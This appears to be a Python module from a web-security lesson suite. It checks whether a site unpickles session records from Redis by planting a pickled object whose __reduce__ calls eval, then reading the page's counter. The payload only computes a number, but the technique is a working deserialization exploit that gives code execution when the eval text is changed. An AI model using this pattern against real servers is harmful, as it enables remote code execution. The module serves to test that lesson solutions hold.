"""Pickle: leave a record in Redis that is code, and let the server run it.

pickle rebuilds any object, and to do so it calls the functions that the text names. Whoever can
write to Redis, such as a neighbour on the same network, can write a record. This one computes
41 times 1000: harmless, and only a server that runs code it was sent shows the result.
"""

import pickle
from typing import Any

from . import FELL, HELD, DoesNotApply, NoAnswer, an_attack
from .alone import run_alone
from .visitor import Visitor

HARM = "any program on your server, run by whoever can write to your Redis"
HELD_FROM = 4  # the first lesson whose solution holds


class Planted:
    """Pickled, it says: call eval with this text."""

    def __reduce__(self) -> tuple:
        return eval, ("{'views': 41 * 1000}",)


@an_attack(HARM)
def attack(site: Any) -> tuple[str, str]:
    """Plant the record under this visitor's own key, and visit."""
    if not site.redis:
        raise DoesNotApply("there is no Redis here that it could write to")
    with Visitor(site) as visitor:
        visitor.honest()
        keys = [key for key in visitor.records() if site.redis.exists(key)]
        if not keys:
            raise NoAnswer("Redis holds no record under sess: and the visitor's ID")
        site.redis.set(keys[0], pickle.dumps(Planted(), protocol=0), ex=60)
        try:
            seen = visitor.visit()
        finally:
            site.redis.delete(keys[0])
    return (
        FELL if seen == 41_001 else HELD,
        f"planted a record that computes 41001: the page counts {seen}",
    )


if __name__ == "__main__":
    run_alone(attack)
